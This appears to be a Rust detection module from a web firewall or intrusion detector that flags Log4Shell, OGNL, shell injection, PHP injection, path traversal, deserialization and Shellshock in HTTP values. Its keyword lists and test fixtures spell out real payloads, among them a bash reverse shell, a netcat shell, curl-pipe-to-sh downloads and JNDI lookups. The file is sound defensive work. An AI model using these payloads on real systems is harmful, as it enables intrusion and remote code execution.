//! Remote code execution and file disclosure in HTTP inputs: Log4Shell
//! lookups, Struts/OGNL expressions, shell command injection, PHP code
//! injection, path traversal to sensitive files, serialized objects.
//!
//! The value is URL-decoded (twice when escapes remain) and, for
//! traversal, overlong `%c0%af` and backslashes are read as `/`. Rules:
//! - [`RceKind::Log4Shell`]: a `${…}` lookup that evaluates to `jndi:`
//!   once nested lookups are resolved the way Log4j does (`${lower:j}`,
//!   `${upper:J}`, `${::-j}`, `${env:X:-j}`, `${date:'j'}`), nesting depth
//!   at most 8;
//! - [`RceKind::Ognl`]: `%{(#`, `${(#`, `#_memberaccess`,
//!   `@java.lang.runtime@getruntime`, `ognl.ognlcontext`,
//!   `new java.lang.processbuilder`, `#context[`;
//! - [`RceKind::Shell`]: a separator (`;`, `|`, `&`, `` ` ``, `$(`, a
//!   newline) then a command: `cat /…`, `id`, `uname`, `whoami`, `ls`,
//!   `dir` ending the value or followed by an option/separator, `wget`/
//!   `curl` with a URL or option, `nc`/`ncat -e`, `bash -i`, `/bin/sh`,
//!   `/bin/bash`, `cmd /c`, `cmd.exe`, `powershell`, `python -c`, `perl -e`,
//!   `ping -c`/`-n`, `sleep <n>` at the end; the Cisco IOS
//!   `/level/<n>/exec/` path (CVE-2001-0537); at the very start of the
//!   value (no separator, `cmd=cat /etc/passwd`) only the strong commands
//!   and the argument-shaped ones (`cat /…`, `ls -…`, `wget http…`);
//! - [`RceKind::PhpCode`]: `phpinfo(`, `system(`, `passthru(`,
//!   `shell_exec(`, `proc_open(`, `popen(`, `assert(`, `eval(`,
//!   `base64_decode(` as a call (not preceded by a letter; backslashes
//!   ignored, `system\('id'\)`), `<?php`; the offset is then approximate;
//! - [`RceKind::PathTraversal`]: `../` (any encoding) then a sensitive file
//!   (`etc/passwd`, `etc/shadow`, `etc/hosts`, `win.ini`, `boot.ini`,
//!   `system32`, `proc/self`, `.ssh/`, `web-inf/`, `usr/bin/`, `bin/sh`,
//!   `bin/bash`), a value that is such an absolute
//!   path (`/etc/passwd`), a path to `system32/cmd.exe` (IIS), an
//!   inclusion wrapper (`php://filter`, `php://input`, `expect://`,
//!   `file:///etc/`, `data://text/plain;base64`), or two or
//!   more evasively encoded `../`
//!   (`..%c0%af`, `..%255c`, `..%5c`);
//! - [`RceKind::Deserialization`]: a Java serialized stream (`rO0AB`
//!   base64, or the raw `ac ed 00 05` magic) at the start of the value, or a
//!   PHP serialized object `O:<n>:"<Class>":<n>:{`;
//! - [`RceKind::Shellshock`]: a value starting with `() {`, a bash
//!   function definition (CVE-2014-6271), typically in a header.
//!
//! Bounds: at most [`MAX_INPUT`] bytes inspected, a few decoded copies.

use super::{contains_ci, decode_twice, find_ci, fragment, MAX_INPUT};

/// The family of a code-execution match.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum RceKind {
    /// Log4j JNDI lookup (CVE-2021-44228).
    Log4Shell,
    /// Struts/OGNL expression.
    Ognl,
    /// Shell command injection.
    Shell,
    /// PHP code injection.
    PhpCode,
    /// Path traversal to a sensitive file.
    PathTraversal,
    /// Serialized Java/PHP object.
    Deserialization,
    /// Bash function definition in a value (Shellshock, CVE-2014-6271).
    Shellshock,
}

/// A code-execution attempt found in one input.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct RceMatch {
    /// Which family.
    pub kind: RceKind,
    /// Why, for the analyst.
    pub reason: &'static str,
    /// The decoded input from the match on, capped.
    pub fragment: String,
}

/// Nesting depth of `${…}` lookups evaluated.
const MAX_LOOKUP_DEPTH: usize = 8;

const OGNL: &[&[u8]] = &[
    b"%{(#",
    b"${(#",
    b"#_memberaccess",
    b"@java.lang.runtime@getruntime",
    b"ognl.ognlcontext",
    b"new java.lang.processbuilder",
    b"#context[",
];

const PHP: &[&[u8]] = &[
    b"phpinfo(",
    b"system(",
    b"passthru(",
    b"shell_exec(",
    b"proc_open(",
    b"popen(",
    b"assert(",
    b"eval(",
    b"base64_decode(",
];

const SENSITIVE: &[&[u8]] = &[
    b"etc/passwd",
    b"etc/shadow",
    b"etc/hosts",
    b"win.ini",
    b"boot.ini",
    b"system32",
    b"proc/self",
    b".ssh/",
    b"web-inf/",
    b"usr/bin/",
    b"bin/sh",
    b"bin/bash",
];

/// Commands that fire whenever they follow a separator and end a word.
const STRONG_CMDS: &[&[u8]] = &[
    b"uname",
    b"whoami",
    b"/bin/sh",
    b"/bin/bash",
    b"bash -i",
    b"bash -c",
    b"cmd.exe",
    b"cmd /c",
    b"powershell",
    b"python -c",
    b"perl -e",
    b"nc -e",
    b"ncat ",
    b"/usr/bin/id",
];

/// Commands that need an argument shape (`cat /x`) or to end the value.
const WEAK_CMDS: &[(&[u8], &[&[u8]])] = &[
    (
        b"cat",
        &[b" /", b" ~", b" .", b"\t/", b"$ifs", b"${ifs}", b" \"/"],
    ),
    (b"wget", &[b" http", b" ftp", b" -"]),
    (b"curl", &[b" http", b" ftp", b" -"]),
    (b"ping", &[b" -c", b" -n"]),
    (b"nc", &[b" -"]),
    (b"ls", &[b" -", b" /"]),
    (b"id", &[]),
    (b"dir", &[b" c:", b" /"]),
    (b"sleep", &[]),
    (b"echo", &[b" `"]),
];

/// Code execution in one HTTP input (a path, parameter value, cookie or
/// header value), still URL-encoded or not; `+` is not read as a space.
pub fn in_http_value(value: &[u8]) -> Option<RceMatch> {
    let raw = &value[..value.len().min(MAX_INPUT)];
    let mut s = decode_twice(raw, false);
    s.make_ascii_lowercase();
    let hit = |kind, reason, at: usize| RceMatch {
        kind,
        reason,
        fragment: fragment(&s, at, s.len()),
    };
    if s.trim_ascii_start().starts_with(b"() {") {
        return Some(hit(
            RceKind::Shellshock,
            "bash function definition (Shellshock)",
            0,
        ));
    }
    if let Some(at) = log4shell(&s) {
        return Some(hit(
            RceKind::Log4Shell,
            "${…} lookup resolving to jndi:",
            at,
        ));
    }
    for p in OGNL {
        if let Some(at) = find_ci(&s, p, 0) {
            return Some(hit(RceKind::Ognl, "OGNL expression", at));
        }
    }
    if let Some(at) = php_code(&s) {
        return Some(hit(RceKind::PhpCode, "PHP code-execution call", at));
    }
    if let Some(at) = cisco_exec(&s) {
        return Some(hit(
            RceKind::Shell,
            "Cisco IOS HTTP exec (CVE-2001-0537)",
            at,
        ));
    }
    if let Some(at) = shell(&s) {
        return Some(hit(RceKind::Shell, "command after a shell separator", at));
    }
    if let Some((at, reason)) = traversal(raw, &s) {
        return Some(hit(RceKind::PathTraversal, reason, at));
    }
    if let Some(reason) = serialized(raw, &s) {
        return Some(hit(RceKind::Deserialization, reason, 0));
    }
    None
}

/// Offset of a `${` lookup that evaluates to `jndi:…`.
fn log4shell(s: &[u8]) -> Option<usize> {
    let mut from = 0;
    while let Some(at) = find_ci(s, b"${", from) {
        from = at + 2;
        let mut out = Vec::new();
        let mut i = at;
        lookup(s, &mut i, 0, &mut out);
        // an unterminated lookup counts too: its text so far says jndi
        if out.starts_with(b"jndi:") {
            return Some(at);
        }
        // resume after this lookup: each byte is evaluated once
        from = from.max(i);
    }
    None
}

/// Evaluates the lookup starting at `s[*i] == '$'`, appending its value to
/// `out`; returns whether it was closed by `}`. Work is linear in the input
/// (each byte is consumed once) and recursion is bounded.
fn lookup(s: &[u8], i: &mut usize, depth: usize, out: &mut Vec<u8>) -> bool {
    *i += 2; // "${"
    let mut body = Vec::new();
    let mut closed = false;
    while *i < s.len() {
        if s[*i] == b'}' {
            *i += 1;
            closed = true;
            break;
        }
        if s[*i] == b'$' && s.get(*i + 1) == Some(&b'{') && depth < MAX_LOOKUP_DEPTH {
            lookup(s, i, depth + 1, &mut body);
            continue;
        }
        body.push(s[*i]);
        *i += 1;
    }
    // resolve: default value, case lookups, date pattern, else the body
    let value: &[u8] = if let Some(p) = body.windows(2).position(|w| w == b":-") {
        &body[p + 2..]
    } else if let Some(rest) = body
        .strip_prefix(b"lower:")
        .or_else(|| body.strip_prefix(b"upper:"))
    {
        rest
    } else if let Some(rest) = body.strip_prefix(b"date:") {
        rest.strip_prefix(b"'")
            .and_then(|r| r.strip_suffix(b"'"))
            .unwrap_or(rest)
    } else {
        &body
    };
    out.extend_from_slice(value);
    closed
}

fn php_code(s: &[u8]) -> Option<usize> {
    // `system\('id'\)`: shell-escaped calls still run once unescaped
    let unescaped: Vec<u8>;
    let s = if s.contains(&b'\\') {
        unescaped = s.iter().copied().filter(|&b| b != b'\\').collect();
        &unescaped[..]
    } else {
        s
    };
    if let Some(at) = find_ci(s, b"<?php", 0) {
        return Some(at);
    }
    for f in PHP {
        let mut from = 0;
        while let Some(at) = find_ci(s, f, from) {
            from = at + 1;
            if at == 0 || !(s[at - 1].is_ascii_alphanumeric() || s[at - 1] == b'_') {
                return Some(at);
            }
        }
    }
    None
}

fn is_sep(s: &[u8], at: usize) -> Option<usize> {
    match s[at] {
        b';' | b'|' | b'&' | b'`' | b'\n' => Some(at + 1),
        b'$' if s.get(at + 1) == Some(&b'(') => Some(at + 2),
        _ => None,
    }
}

/// Offset of a command right after a shell separator.
fn shell(s: &[u8]) -> Option<usize> {
    for at in 0..s.len() {
        // the value's start acts as a separator for argument-shaped commands
        let start = at == 0 && is_sep(s, 0).is_none();
        let Some(mut k) = is_sep(s, at).or(start.then_some(0)) else {
            continue;
        };
        while k < s.len() && (matches!(s[k], b' ' | b'\t' | b'|' | b'&')) {
            k += 1;
        }
        let rest = &s[k..];
        let word_end = |n: usize| {
            rest.get(n)
                .is_none_or(|b| !(b.is_ascii_alphanumeric() || *b == b'_' || *b == b'.'))
        };
        if STRONG_CMDS
            .iter()
            .any(|c| rest.starts_with(c) && word_end(c.len()))
        {
            return Some(at);
        }
        for (cmd, args) in WEAK_CMDS {
            if !rest.starts_with(cmd) || !word_end(cmd.len()) {
                continue;
            }
            let tail = &rest[cmd.len()..];
            let ends = tail
                .iter()
                .find(|b| !b.is_ascii_whitespace())
                .is_none_or(|b| matches!(b, b';' | b'|' | b'&' | b'`' | b')'));
            let sleep_n = *cmd == b"sleep"
                && tail
                    .strip_prefix(b" ")
                    .is_some_and(|t| t.first().is_some_and(u8::is_ascii_digit));
            if (!start && (ends || sleep_n)) || args.iter().any(|a| tail.starts_with(a)) {
                return Some(at);
            }
        }
    }
    None
}

/// Offset of `/level/<n>/exec/`, the Cisco IOS HTTP server's command
/// path reached without authentication (CVE-2001-0537).
fn cisco_exec(s: &[u8]) -> Option<usize> {
    let mut from = 0;
    while let Some(at) = find_ci(s, b"/level/", from) {
        from = at + 1;
        let r = &s[at + 7..];
        let d = r.iter().take_while(|b| b.is_ascii_digit()).count();
        if (1..=2).contains(&d) && r[d..].starts_with(b"/exec/") {
            return Some(at);
        }
    }
    None
}

/// A traversal: offset and reason.
fn traversal(raw: &[u8], s: &[u8]) -> Option<(usize, &'static str)> {
    let mut lower_raw = raw.to_vec();
    lower_raw.make_ascii_lowercase();
    let evasive = [
        &b"..%c0%af"[..],
        b"..%255c",
        b"..%5c",
        b"..%252f",
        b"%2e%2e%2f",
        b"..%c1%9c",
    ]
    .iter()
    .map(|p| count(&lower_raw, p))
    .sum::<usize>();
    // unify separators: backslash and overlong '/' (c0 af) as '/'
    let mut n = Vec::with_capacity(s.len());
    let mut i = 0;
    while i < s.len() {
        if s[i] == 0xc0 && s.get(i + 1) == Some(&0xaf) {
            n.push(b'/');
            i += 2;
            continue;
        }
        n.push(if s[i] == b'\\' { b'/' } else { s[i] });
        i += 1;
    }
    if let Some(first) = find_ci(&n, b"../", 0) {
        if SENSITIVE.iter().any(|f| find_ci(&n, f, first).is_some()) {
            return Some((first, "../ traversal to a sensitive file"));
        }
    }
    let trimmed = n.trim_ascii_start();
    if SENSITIVE[..2]
        .iter()
        .any(|f| trimmed.strip_prefix(b"/").is_some_and(|t| t.starts_with(f)))
    {
        return Some((0, "absolute path of a sensitive file"));
    }
    for w in [
        &b"php://filter"[..],
        b"php://input",
        b"expect://",
        b"file:///etc/",
        b"data://text/plain;base64",
    ] {
        if let Some(at) = find_ci(&n, w, 0) {
            return Some((at, "file-inclusion wrapper"));
        }
    }
    if let Some(at) = find_ci(&n, b"system32/cmd.exe", 0) {
        return Some((at, "request for the Windows command shell"));
    }
    if evasive >= 2 {
        return Some((0, "evasively encoded ../ sequences"));
    }
    None
}

fn count(hay: &[u8], needle: &[u8]) -> usize {
    let mut n = 0;
    let mut from = 0;
    while let Some(at) = find_ci(hay, needle, from) {
        n += 1;
        from = at + needle.len();
    }
    n
}

fn serialized(raw: &[u8], s: &[u8]) -> Option<&'static str> {
    let t = raw.trim_ascii_start();
    if t.starts_with(b"rO0AB") || t.starts_with(&[0xac, 0xed, 0x00, 0x05]) {
        return Some("Java serialized object");
    }
    // PHP object: O:<digits>:"<name>":<digits>:{
    let mut from = 0;
    while let Some(at) = find_ci(s, b"o:", from) {
        from = at + 1;
        let r = &s[at + 2..];
        let d = r.iter().take_while(|b| b.is_ascii_digit()).count();
        if d == 0 || r.get(d..d + 2) != Some(b":\"") {
            continue;
        }
        let name = &r[d + 2..];
        let nl = name
            .iter()
            .take_while(|b| b.is_ascii_alphanumeric() || matches!(b, b'_' | b'\\'))
            .count();
        let after = &name[nl..];
        if nl > 0 && after.starts_with(b"\":") && contains_ci(&after[..after.len().min(12)], b":{")
        {
            return Some("PHP serialized object");
        }
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn attacks() {
        use RceKind::*;
        for (s, k) in [
            ("${jndi:ldap://x.io/a}", Log4Shell),
            ("${${lower:j}ndi:ldap://x}", Log4Shell),
            ("${${::-j}${::-n}${::-d}${::-i}:rmi://x}", Log4Shell),
            ("${${env:BARFOO:-j}ndi${env:BARFOO:-:}ldap://x}", Log4Shell),
            ("%24%7Bjndi%3Aldap%3A%2F%2Fx%7D", Log4Shell),
            ("${jndi:${lower:l}${lower:d}ap://x}", Log4Shell),
            ("${${date:'j'}ndi:dns://x}", Log4Shell),
            (
                "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}",
                Ognl,
            ),
            ("x;cat /etc/passwd", Shell),
            (" ;cat%20/etc/passwd", Shell),
            ("127.0.0.1 | whoami", Shell),
            ("a`id`", Shell),
            ("cat /etc/passwd", Shell),
            ("uname -a", Shell),
            ("$(wget http://x/s.sh)", Shell),
            ("0hXC6ZUE.exe|dir", Shell),
            ("x && bash -i >& /dev/tcp/1.2.3.4/4444 0>&1", Shell),
            ("array();phpinfo();exit;", PhpCode),
            ("%2527.passthru($HTTP_GET_VARS[rush]).%2527", PhpCode),
            ("\\\".system\\('id'\\)\\.\\\"", PhpCode),
            ("../../../../etc/passwd", PathTraversal),
            ("..%2f..%2f..%2fetc%2fshadow", PathTraversal),
            (
                "/_vti_bin/..%255c..%255c..%255cwinnt/system32/cmd.exe?/c+dir",
                PathTraversal,
            ),
            ("..%c0%af..%c0%af../winnt/system32/cmd.exe", PathTraversal),
            ("/etc/passwd", PathTraversal),
            ("rO0ABXNyABFqYXZh", Deserialization),
            (";nc -e /bin/sh 1.2.3.4 4444", Shell),
            ("$(curl http://x|sh)", Shell),
            ("`wget http://x`", Shell),
            ("%0acat%20/etc/passwd", Shell),
            ("x;sleep 5;", Shell),
            ("/cgi-bin/handler/netsonar;cat", Shell),
            ("../../../../../usr/bin/id|", PathTraversal),
            ("/level/16/exec//show/configuration", Shell),
            (
                "php://filter/convert.base64-encode/resource=index.php",
                PathTraversal,
            ),
            ("....//....//....//etc/passwd", PathTraversal),
            ("() { :; }; echo vulnerable", Shellshock),
            ("O:8:\"stdClass\":1:{s:1:\"a\";i:1;}", Deserialization),
        ] {
            assert_eq!(in_http_value(s.as_bytes()).map(|m| m.kind), Some(k), "{s}");
        }
    }

    #[test]
    fn benign() {
        for s in [
            "${user.name}",
            "cats and dogs; cat food",
            "id=5; idle",
            "/usr/share/doc/index.html",
            "../images/logo.png",
            "operating system (linux)",
            "filesystem(s)",
            "Tom & Jerry",
            "curl up; sleep well",
            "id",
            "sleep 8 hours",
            "ls",
            "a:2:{i:0;s:1:\"a\";}",
            "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
            "$(document).ready",
        ] {
            assert_eq!(in_http_value(s.as_bytes()), None, "{s}");
        }
    }
}
